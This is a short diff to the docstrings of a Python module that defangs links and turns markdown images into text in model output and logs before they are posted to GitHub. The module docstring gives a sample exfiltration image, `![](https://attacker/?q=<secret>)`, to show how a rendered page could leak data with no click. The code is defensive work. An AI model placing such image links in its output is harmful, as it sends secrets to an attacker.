@@ -4,7 +4,7 @@ Model output, issue text and test logs end up in comments, PR bodies and the ste
 image there is fetched as soon as the page is shown, so `![](https://attacker/?q=<secret>)` would
 carry data out with no click; a link does on the first click. So, before anything is posted:
 markdown images and raw HTML media or anchor tags become text; URLs and `www.` names on hosts
-other than the forge's own are defanged (`hxxps://host[.]example/path`), which neither GitHub's
+other than the GitHub server's own are defanged (`hxxps://host[.]example/path`), which neither GitHub's
 renderer nor its auto-linker reads as a link. Pure functions over text.
 """
 
@@ -25,7 +25,7 @@ _PROTOCOL_RELATIVE = re.compile(r"(?<=\]\()\s*//(?P<rest>[^\s)]+)")
 
 
 def allowed_hosts(*urls: str) -> frozenset[str]:
-    """The hosts of `urls` (the forge's server, say): links there are kept."""
+    """The hosts of `urls` (the GitHub server's, say): links there are kept."""
     return frozenset(host for url in urls if (host := (urlsplit(url).hostname or "").lower()))
 
 
